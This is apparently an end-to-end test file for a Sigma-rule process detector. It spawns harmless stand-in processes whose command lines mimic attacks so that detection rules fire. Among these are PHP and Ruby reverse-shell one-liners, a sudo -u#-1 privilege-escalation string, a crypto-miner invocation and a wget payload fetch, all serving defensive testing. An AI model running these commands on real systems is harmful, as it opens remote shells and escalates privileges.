// End to end: SigmaHQ rules (test/fixtures/sigma) loaded by `daemoneye detect --rules DIR` on a live snapshot.
// Real, harmless processes are spawned so that thirteen rules must flag them, each beside a look-alike the
// rule must not flag. A tool-named process is a copy of `yes` under the tool's name (its argv is whatever the
// rule looks for, as one argv[0]; its stdout is a pipe nobody reads, so it blocks instead of spinning); parent/child rules use
// a copy of dash that starts a real /bin/sh.
import {type ChildProcess, spawn} from 'node:child_process';
import {copyFileSync, cpSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync} from 'node:fs';
import {join} from 'node:path';

import {afterAll, beforeAll, describe, expect, it} from 'vitest';
import {parse} from 'yaml';

import type {Alert} from '../../src/models/alert.js';
import {isolatedEnv, killGroups, parseNdjson, removeDir, ROOT, runCli, tempDir} from '../helpers/cli.js';

const FIXTURES = join(ROOT, 'test', 'fixtures', 'sigma');
const LINUX = join(FIXTURES, 'rules', 'linux', 'process_creation');
const dir = tempDir('daemoneye-sigma-');
const bin = join(dir, 'bin');
const rulesDir = join(dir, 'sigma-rules');
const env = isolatedEnv(dir);
const children: ChildProcess[] = [];

/** The rule's id, read from its fixture file. */
const idOf = (file: string): string => (parse(readFileSync(file, 'utf8')) as {id: string}).id;

/** A copy of `yes` named `name` in our bin directory, run with `args`; returns its pid. */
function tool(name: string, args: readonly string[], binDir = bin): Promise<number> {
  const exe = join(binDir, name);
  mkdirSync(binDir, {recursive: true});
  try {
    copyFileSync('/usr/bin/yes', exe);
  } catch {
    // already there
  }
  // The whole command line as argv[0] (what the snapshot's cmdline joins), so yes sees no options to refuse.
  return started(spawn(exe, [], {detached: true, stdio: ['ignore', 'pipe', 'ignore'], argv0: [name, ...args].join(' ')}));
}

function started(child: ChildProcess): Promise<number> {
  children.push(child);
  return new Promise((resolve, reject) => {
    child.once('error', reject);
    child.once('spawn', () => resolve(child.pid as number));
  });
}

/** A copy of dash at `exe` running `sh -c SCRIPT; true` (`; true` keeps it from exec'ing the child): the child's pid. */
async function parentWithShellChild(exe: string, childArgs: string): Promise<{parent: number; child: number}> {
  copyFileSync('/usr/bin/dash', exe);
  const parent = await started(spawn(exe, ['-c', `/bin/sh ${childArgs}; true`], {detached: true, stdio: 'ignore'}));
  for (let i = 0; i < 100; i++) {
    const kids = readFileSync(`/proc/${parent}/task/${parent}/children`, 'utf8').trim();
    if (kids !== '') return {parent, child: Number(kids.split(' ')[0])};
    await new Promise((r) => setTimeout(r, 20));
  }
  throw new Error(`no child of ${exe}`);
}

interface Case {
  readonly rule: string;
  readonly flagged: number[];
  readonly lookAlikes: number[];
}
const cases: Case[] = [];
let alerts: Alert[] = [];

beforeAll(async () => {
  // Every vendored process_creation rule that compiles: the two refused ones (LogonId has no mapping) would stop the run.
  mkdirSync(rulesDir);
  const copy = (from: string): void => {
    for (const entry of readdirSync(from, {withFileTypes: true})) {
      const path = join(from, entry.name);
      if (entry.isDirectory()) {
        // network_connection rules: three are refused (DestinationHostname); detect-sigma-network.test.ts runs them.
        if (entry.name !== 'network_connection') copy(path);
      } else if (entry.name.endsWith('.yml') && !entry.name.includes('omigod')) cpSync(path, join(rulesDir, entry.name));
    }
  };
  copy(FIXTURES);

  const add = async (file: string, flagged: Promise<number>[], lookAlikes: Promise<number>[]) => {
    cases.push({rule: idOf(file), flagged: await Promise.all(flagged), lookAlikes: await Promise.all(lookAlikes)});
  };
  await add(join(LINUX, 'proc_creation_lnx_base64_decode.yml'), [tool('base64', ['-d'])], [tool('base64', ['--wrap=0'])]);
  await add(join(LINUX, 'proc_creation_lnx_crontab_enumeration.yml'), [tool('crontab', ['-l'])], [tool('crontab', ['-e'])]);
  await add(join(LINUX, 'proc_creation_lnx_nice_shell_execution.yml'), [tool('nice', ['/bin/sh'])], [tool('nice', ['/bin/sh', '-c', 'true'])]);
  await add(join(LINUX, 'proc_creation_lnx_doas_execution.yml'), [tool('doas', ['id'])], [tool('pseudoas', ['id'])]);
  // Case-insensitive by default: SUDO -U#-1 is sudo -u#-1; "-u #1" is not.
  await add(
    join(FIXTURES, 'rules-emerging-threats', '2019', 'Exploits', 'CVE-2019-14287', 'proc_creation_lnx_exploit_cve_2019_14287.yml'),
    [tool('sudo', ['-u#-1', 'id']), tool('SUDO', ['-U#-1', 'id'])],
    [tool('sudo', ['-u', '#1', 'id'])],
  );
  await add(join(LINUX, 'proc_creation_lnx_crypto_mining.yml'), [tool('xmrig', ['--donate-level=0'])], [tool('xmrig', ['--donate-level=1'])]);
  // re: an IPv4 address in the command line, plus contains|all and contains.
  await add(
    join(
      FIXTURES,
      'rules-emerging-threats',
      '2023',
      'TA',
      'UNC4841-Barracuda-ESG-Zero-Day-Exploitation',
      'proc_creation_lnx_apt_unc4841_openssl_connection.yml',
    ),
    [tool('openssl', ['s_client', '-quiet', '-connect', '10.1.2.3:443'])],
    [tool('openssl', ['s_client', '-quiet', '-connect', 'example.com:443'])],
  );
  await add(
    join(
      FIXTURES,
      'rules-emerging-threats',
      '2023',
      'TA',
      'UNC4841-Barracuda-ESG-Zero-Day-Exploitation',
      'proc_creation_lnx_apt_unc4841_wget_download_compressed_file_tmep_sh.yml',
    ),
    [tool('wget', ['https://temp.sh/AbC/x.zip'])],
    [tool('wget', ['https://temp.sh/AbC/x.zip.txt'])],
  );
  await add(
    join(LINUX, 'proc_creation_lnx_php_reverse_shell.yml'),
    [tool('php', ['-r', '$s=fsockopen("127.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'])],
    [tool('php', ['-r', 'echo fsockopen;'])],
  );
  await add(
    join(LINUX, 'proc_creation_lnx_ruby_reverse_shell.yml'),
    [tool('ruby', ['-rsocket', '-e', 'f=TCPSocket.open("127.0.0.1",4444).to_i; exec sprintf("exec sh -i <&%d >&%d 2>&%d",f,f,f)'])],
    [tool('ruby', ['-rsocket', '-e', 'TCPSocket.open("127.0.0.1",4444).close'])],
  );
  await add(
    join(FIXTURES, 'rules-threat-hunting', 'linux', 'process_creation', 'proc_creation_lnx_susp_process_termination_via_kill.yml'),
    [tool('kill', ['-0', '1'])],
    [tool('skill', ['-0', '1'])],
  );
  // Parent rules: a shell whose parent runs from /tmp; a shell under rsync unless it is rsync's own "-e" remote shell.
  const fromTmp = await parentWithShellChild(join(dir, 'launcher'), '-c "sleep 600; true"');
  const fromSystem = await started(spawn('/usr/bin/dash', ['-c', '/bin/sh -c "sleep 600; true"; true'], {detached: true, stdio: 'ignore'}));
  await new Promise((r) => setTimeout(r, 100));
  const systemChild = Number(readFileSync(`/proc/${fromSystem}/task/${fromSystem}/children`, 'utf8').trim().split(' ')[0]);
  cases.push({
    rule: idOf(join(LINUX, 'proc_creation_lnx_susp_shell_child_process_from_parent_tmp_folder.yml')),
    flagged: [fromTmp.child],
    lookAlikes: [systemChild],
  });
  mkdirSync(join(dir, 'rsync-bin'));
  const rsyncShell = await parentWithShellChild(join(dir, 'rsync-bin', 'rsync'), '-c "sleep 600; true"');
  mkdirSync(join(dir, 'rsync-bin2'));
  const rsyncRemote = await parentWithShellChild(join(dir, 'rsync-bin2', 'rsync'), '-e -c "sleep 600; true"');
  cases.push({rule: idOf(join(LINUX, 'proc_creation_lnx_rsync_shell_spawn.yml')), flagged: [rsyncShell.child], lookAlikes: [rsyncRemote.child]});

  const result = await runCli(['detect', '--rules', rulesDir, '--format', 'ndjson', '--no-audit'], {env, timeoutMs: 120_000});
  if (result.code !== 0) throw new Error(`detect exited ${result.code}: ${result.stderr}`);
  alerts = parseNdjson<Alert>(result.stdout);
}, 180_000);

afterAll(() => {
  killGroups(children);
  rmSync(bin, {recursive: true, force: true});
  removeDir(dir);
});

describe('detect --rules DIR with SigmaHQ rules on a live snapshot', () => {
  it('flags each spawned process with its Sigma rule, and not its look-alike', () => {
    expect(cases).toHaveLength(13);
    for (const c of cases) {
      const pids = alerts.filter((a) => a.rule_id === c.rule).flatMap((a) => a.affected_processes);
      for (const pid of c.flagged) expect(pids, `rule ${c.rule} must flag pid ${pid}`).toContain(pid);
      for (const pid of c.lookAlikes) expect(pids, `rule ${c.rule} must not flag look-alike pid ${pid}`).not.toContain(pid);
    }
  });

  it("alerts carry the Sigma rule's title and level", () => {
    const base64 = alerts.find((a) => a.rule_id === 'e2072cab-8c9a-459b-b63c-40ae79e27031');
    expect(base64).toMatchObject({title: 'Decode Base64 Encoded Text', severity: 'low'});
  });

  it('a directory holding a rule that cannot be compiled stops detect with the file, line and reason (exit 2)', async () => {
    const result = await runCli(['detect', '--rules', FIXTURES, '--format', 'ndjson', '--no-audit'], {env});
    expect(result.code).toBe(2);
    expect(result.stdout).toBe('');
    // The first refused file, and the count: two OMIGOD rules (LogonId) and three network_connection rules (DestinationHostname).
    expect(result.stderr).toMatch(
      /(proc_creation_lnx_omigod_scx_runasprovider_execute\w+\.yml:\d+:9: detection\.selection\.LogonId: field LogonId has no mapping|net_connection_lnx_\w+\.yml:\d+:9: detection\.selection\.DestinationHostname[|\w]*: field DestinationHostname is not supported)/,
    );
    expect(result.stderr).toMatch(/\(5 invalid rule files/);
  });

  it('rules list shows the Sigma rules with their format and status; rules disable switches one off by its Sigma id', async () => {
    const list = await runCli(['rules', 'list', '--rules', rulesDir, '--format', 'json'], {env});
    expect(list.code).toBe(0);
    const rules = JSON.parse(list.stdout) as {id: string; format: string; status: string | null; source_type: string; date: string | null}[];
    expect(rules.filter((r) => r.format === 'sigma')).toHaveLength(142);
    expect(rules.find((r) => r.id === 'e2072cab-8c9a-459b-b63c-40ae79e27031')).toMatchObject({
      format: 'sigma',
      status: 'test',
      source_type: 'file',
      date: '2020-10-19',
    });
    const config = join(dir, 'config.yaml');
    writeFileSync(config, `detection:\n  rules_paths: [${JSON.stringify(rulesDir)}]\n`);
    const disable = await runCli(['rules', 'disable', 'e2072cab-8c9a-459b-b63c-40ae79e27031', '--config', config], {env});
    expect(disable.code).toBe(0);
    const after = await runCli(['rules', 'list', '--config', config, '--format', 'json'], {env});
    expect((JSON.parse(after.stdout) as {id: string; enabled: boolean}[]).find((r) => r.id === 'e2072cab-8c9a-459b-b63c-40ae79e27031')?.enabled).toBe(false);
  });

  it('rules test runs the test cases a Sigma rule carries in a tests: attribute (a near miss included)', async () => {
    const file = join(dir, 'base64-with-tests.yml');
    const cases = [
      'tests:',
      '  - name: base64 -d',
      '    processes:',
      '      - {pid: 100, executable_path: /usr/bin/base64, command_line: [base64, -d]}',
      '    expect: [100]',
      '  - name: near miss - encoding, and another tool decoding',
      '    processes:',
      '      - {pid: 101, executable_path: /usr/bin/base64, command_line: [base64, --wrap=0]}',
      '      - {pid: 102, executable_path: /usr/bin/base32, command_line: [base32, -d]}',
      '    expect: []',
    ];
    writeFileSync(file, `${readFileSync(join(LINUX, 'proc_creation_lnx_base64_decode.yml'), 'utf8')}${cases.join('\n')}\n`);
    const passing = await runCli(['rules', 'test', file, '--no-audit'], {env});
    expect(passing.code).toBe(0);
    expect(passing.stderr).toMatch(/2 passed, 0 failed/);
    writeFileSync(file, readFileSync(file, 'utf8').replace('expect: []', 'expect: [102]'));
    const failing = await runCli(['rules', 'test', file, '--no-audit'], {env});
    expect(failing.code).toBe(1);
    expect(failing.stderr).toMatch(/1 passed, 1 failed/);
  });

  it('rules convert prints the SQL; a refused rule is one line on stderr and exit 1', async () => {
    const ok = await runCli(['rules', 'convert', join(LINUX, 'proc_creation_lnx_base64_decode.yml')], {env});
    expect(ok.code).toBe(0);
    expect(ok.stdout).toMatch(/^-- .*proc_creation_lnx_base64_decode\.yml: e2072cab-8c9a-459b-b63c-40ae79e27031: Decode Base64 Encoded Text\nSELECT /);
    expect(ok.stdout).toContain("lower(p.executable_path) GLOB '*/base64'");
    const refused = await runCli(['rules', 'convert', join(LINUX, 'proc_creation_lnx_omigod_scx_runasprovider_executescript.yml'), '--format', 'json'], {env});
    expect(refused.code).toBe(1);
    expect(JSON.parse(refused.stdout)).toMatchObject([{valid: false, sql: null, format: null}]);
    expect(refused.stderr).toMatch(/executescript\.yml:29:9: detection\.selection\.LogonId: field LogonId has no mapping/);
  });
});
